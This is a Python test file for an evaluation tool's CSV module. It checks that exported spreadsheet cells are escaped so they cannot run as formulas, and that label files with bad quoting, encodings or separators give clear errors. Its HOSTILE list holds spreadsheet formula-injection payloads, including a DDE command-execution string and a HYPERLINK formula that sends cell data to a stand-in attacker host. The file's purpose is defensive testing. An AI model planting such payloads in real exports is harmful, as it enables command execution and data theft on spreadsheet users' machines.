""":mod:`evaluator.data.csv_files`: no cell the tool writes is one a spreadsheet runs, every
value written comes back as it was (a seeded corpus of hostile ids: hypothesis is not
installed), a hand-made sheet's plain ids read as they are, and one reader for cases and
labels that takes cells of any length and names the line of a malformed record."""

from __future__ import annotations

import csv
import io
import random

import pytest

from evaluator.analysis.label_files import AgreementError, label_rows
from evaluator.data.csv_files import (
    csv_bytes,
    csv_records,
    csv_text,
    read_cell,
    semicolon_separated,
    spreadsheet_cell,
)

# The ids of the review (issue 34), hospital ids that must stay as they are, and the
# escape character itself.
HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://e.vil/?"&A1)', "+1+1", "@SUM(A1)",
           "-0042", "+44 20 7946 0000", "'", "''", "'=1+1", "''=1+1", "'plain", " =1+1",
           "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
           "\u3000=1+1", "a=1", "plain", "", " ", "=", "-", "case-0042", '"=1+1"']
# What a spreadsheet runs: these first (after any whitespace), or a tab / carriage return.
TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
ALPHABET = TRIGGERS + "'\" ,\t\r\n\u3000abc019|!&()"


def runnable(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` as a formula (OWASP's rule, with
    whitespace before the trigger and the full-width triggers)."""
    first = cell.lstrip()[:1]
    return cell[:1] in ("\t", "\r") or (first != "" and first in TRIGGERS)


def corpus(count: int = 4000, seed: int = 34) -> list[str]:
    rng = random.Random(seed)
    values = list(HOSTILE)
    for _ in range(count):
        head = "".join(rng.choice(ALPHABET) for _ in range(rng.randint(0, 4)))
        tail = "".join(rng.choice(ALPHABET + "xyz") for _ in range(rng.randint(0, 6)))
        values.append(head + tail)
    return values


def write_sheet(path, values: list[str]) -> None:
    """A sheet as ``review`` writes it: a header and one id per row."""
    rows = [["case_id", "label"], *([v, str(i)] for i, v in enumerate(values))]
    path.write_bytes(csv_bytes(rows))


def test_no_written_cell_is_a_formula(tmp_path):
    values = corpus()
    path = tmp_path / "sheet.csv"
    write_sheet(path, values)
    with path.open(newline="", encoding="utf-8-sig") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert len(cells) == 2 * (len(values) + 1)
    assert not [cell for cell in cells if runnable(cell)]
    # The named ids: the escape is one leading quote, nothing else changed.
    link = '=HYPERLINK("http://e.vil/?"&A1)'
    assert spreadsheet_cell(link) == "'" + link
    assert spreadsheet_cell("-0042") == "'-0042" and spreadsheet_cell("case-1") == "case-1"


def test_every_value_written_reads_back_as_it_was(tmp_path):
    values = corpus()
    path = tmp_path / "sheet.csv"
    write_sheet(path, values)
    rows = label_rows(path)  # the labels reader agree, estimate, review and compare use
    assert [row["case_id"] for _, row in rows] == values
    assert [row["label"] for _, row in rows] == [str(i) for i in range(len(values))]
    assert all(read_cell(spreadsheet_cell(v)) == v for v in values)


@pytest.mark.parametrize("plain", ["-0042", "+44 20 7946 0000", "'plain", "=1+1", "@x",
                                   "case-7", " -3"])
def test_a_hand_made_sheet_with_plain_ids_reads_as_typed(tmp_path, plain):
    path = tmp_path / "hand.csv"
    path.write_text(f"case_id,label\n\"{plain}\",1\n", encoding="utf-8")
    assert label_rows(path) == [(2, {"case_id": plain, "label": "1"})]


def test_one_reader_takes_any_cell_length_and_goes_on_after_a_bad_record():
    previous = csv.field_size_limit(131072)  # Python's default, as in a fresh process
    try:
        long = "x" * 300_000
        text = f'id,text\n1,"{long}"\n2,"a"b\n3,"line\nbreak"\n'
        records = list(csv_records(io.StringIO(text, newline="")))
    finally:
        csv.field_size_limit(previous)
    assert records[0] == (1, ["id", "text"])
    assert records[1] == (2, ["1", long])
    line, bad = records[2]
    assert line == 3 and "CSV syntax error on line 3" in bad.describe()
    assert records[3] == (4, ["3", "line\nbreak"])


def test_a_malformed_labels_csv_is_one_line_naming_file_and_line(tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text('case_id,label\nc1,1\nc2,"2\nc3,3\n', encoding="utf-8")
    with pytest.raises(AgreementError) as error:
        label_rows(path)
    message = str(error.value)
    assert "\n" not in message and str(path) in message
    assert "line 3" in message and "never closed" in message


def test_a_semicolon_separated_header_is_recognised():
    assert semicolon_separated("case_id;l\r\n") and semicolon_separated('"case_id";"l"')
    assert semicolon_separated("case_id;accuracy.label;note,with comma")
    assert not semicolon_separated("case_id,l") and not semicolon_separated("case_id")
    assert not semicolon_separated('case_id,"a;b",c') and not semicolon_separated("")


@pytest.mark.parametrize("text", [
    # A review.csv saved by a continental-locale spreadsheet: line 2's quoted cell was a
    # CSV syntax error with the quoting hint.
    'case_id;rank;reason;accuracy.label\r\ncase-1;1;"lowest confidence: P 0.40";3\r\n',
    # A plain one: "no column is named 'l' (the header line has 1 columns ...)".
    "case_id;l\ncase-1;3\n",
    "\ncase_id;l\ncase-1;3\n"])
def test_a_semicolon_separated_labels_file_is_named_as_such(tmp_path, text):
    path = tmp_path / "review.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(AgreementError) as caught:
        label_rows(path)
    assert str(caught.value) == (f"{path} looks ';'-separated (a spreadsheet's regional "
                                 "setting): save it as comma-separated CSV")


def test_a_column_named_twice_in_a_labels_file_is_refused(tmp_path):
    """``case_id,l,l`` kept the last column's labels and dropped the other's unsaid."""
    path = tmp_path / "labels.csv"
    path.write_text("case_id,l,l\ncase-1,3,4\n", encoding="utf-8")
    with pytest.raises(AgreementError, match=r"line 1: columns 2 and 3 are both named 'l'"):
        label_rows(path)
    jsonl = tmp_path / "labels.jsonl"
    jsonl.write_text('{"case_id": "case-1", "l": 3, "l": 4}\n', encoding="utf-8")
    with pytest.raises(AgreementError, match=r"line 1: the key 'l' appears twice"):
        label_rows(jsonl)


def test_a_written_sheet_is_utf8_after_a_byte_order_mark_and_reads_back(tmp_path):
    """Excel reads a CSV without a byte-order mark as Windows-1252: ``≥`` came out as
    ``â‰¥``. The mark is no part of the first column's name for any reader."""
    rows = [["case_id", "criteria", "label"], ["Zürich-07", "age ≥ 18, 38.5 °C", "1"],
            ["=Åse", "patient’s\nsecond line", ""]]
    data = csv_bytes(rows)
    assert data[:3] == b"\xef\xbb\xbf" and data[3:].decode("utf-8") == csv_text(rows)
    path = tmp_path / "review.csv"
    path.write_bytes(data)
    with path.open(newline="", encoding="utf-8-sig") as handle:
        assert list(csv.reader(handle)) == [rows[0], rows[1], ["'=Åse", *rows[2][1:]]]
    assert label_rows(path) == [
        (2, {"case_id": "Zürich-07", "criteria": "age ≥ 18, 38.5 °C", "label": "1"}),
        (3, {"case_id": "=Åse", "criteria": "patient’s\nsecond line", "label": ""})]


@pytest.mark.parametrize("name, text, line, hint", [
    # Excel's "CSV (Comma delimited)": Windows-1252; line 2's quoted cell holds a line
    # break, so the first byte that is not UTF-8 (0xdc, "Ü") is on line 4, in row 3.
    ("lab_cp.csv", 'case_id,note,l\r\nc1,"two\r\nlines",1\r\nÜ-3,x,2\r\n', 4, "spreadsheet"),
    ("old_mac.csv", "case_id,l\rc1,1\rc2,°\r", 3, "spreadsheet"),
    ("lab.jsonl", '{"case_id": "c1", "l": 1}\n{"case_id": "é", "l": 2}\n', 2, "")])
def test_a_labels_file_not_in_utf8_names_its_line_and_what_to_do(tmp_path, name, text,
                                                                   line, hint):
    path = tmp_path / name
    path.write_bytes(text.encode("cp1252"))
    with pytest.raises(AgreementError) as caught:
        label_rows(path)
    hint = ' (from a spreadsheet: save it as "CSV UTF-8")' if hint else ""
    assert str(caught.value) == (f"{path}: line {line} is not valid UTF-8; re-encode the "
                                 f"file as UTF-8{hint}")
    # A byte-order mark before it changes nothing.
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("cp1252"))
    with pytest.raises(AgreementError, match=f"line {line} is not valid UTF-8"):
        label_rows(path)


def test_a_labels_file_of_another_type_or_in_utf16_is_told_what_it_is(tmp_path):
    """A spreadsheet's .xlsx (a zip) is the wrong type, not an encoding problem; its
    "Unicode Text" (UTF-16, with or without a byte-order mark) is UTF-16."""
    xlsx = tmp_path / "labels.xlsx"
    xlsx.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4)
    with pytest.raises(AgreementError) as caught:
        label_rows(xlsx)
    assert str(caught.value) == (f'{xlsx}: labels must be a .jsonl, .csv or .parquet file '
                                 '(from a spreadsheet: save it as "CSV UTF-8")')
    text = "case_id,l\r\nc1,1\r\nc2,°\r\n"
    for name, data in [("bom16.csv", text.encode("utf-16")),
                       ("le16.csv", text.encode("utf-16-le")),
                       ("be16.jsonl", '{"case_id": "c1", "l": 1}\n'.encode("utf-16-be"))]:
        path = tmp_path / name
        path.write_bytes(data)
        with pytest.raises(AgreementError) as caught:
            label_rows(path)
        assert str(caught.value) == (f"{path}: the file is UTF-16 (or UTF-32) encoded; save "
                                     "it as UTF-8")


def test_a_labels_csv_with_two_byte_order_marks_reads_its_header(tmp_path):
    # review.csv read as plain UTF-8 and written back as utf-8-sig by a script: two marks.
    path = tmp_path / "twice.csv"
    path.write_bytes(b"\xef\xbb\xbf" * 2 + b"case_id,l\r\nc1,1\r\n")
    rows = label_rows(path)
    assert [row["case_id"] for _, row in rows] == ["c1"]
